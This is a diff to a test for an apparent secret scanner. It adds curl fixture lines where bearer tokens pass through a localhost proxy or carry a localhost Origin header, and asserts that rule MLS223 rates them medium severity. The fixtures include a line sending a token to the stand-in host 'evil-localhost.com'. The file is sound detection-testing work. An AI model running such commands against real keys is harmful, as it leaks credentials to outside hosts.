@@ -27,7 +27,10 @@ def test_a_key_sent_elsewhere_or_a_providers_key_keeps_its_severity(tmp_path: Pa
         'curl https://api.example.org/v1 -H "Authorization: Bearer Zx8kQ2vLm9PqR4tW"\n'
         'curl http://evil-localhost.com/x -H "Authorization: Bearer Zx8kQ2vLm9PqR4tQ"\n'
         f'curl http://localhost:8000/v1/chat -H "Authorization: Bearer {openai}"\n'
+        'curl -x http://localhost:3128 -H "Authorization: Bearer 7f3a9c2e5b8d41f09a6e3c7b" https://api.acme.io/v1\n'
+        'curl -H "Origin: http://localhost:3000" -H "Authorization: Bearer 7f3a9c2e5b8d41f09a6e3c7c" api.acme.io/v1\n'
     )
     found = severities(tmp_path, text)
     assert (1, "MLS223", "medium") in found and (2, "MLS223", "medium") in found
+    assert (4, "MLS223", "medium") in found and (5, "MLS223", "medium") in found  # a proxy or a header on localhost
     assert [s for line, _, s in found if line == 3] and all(s != "low" for line, _, s in found if line == 3)
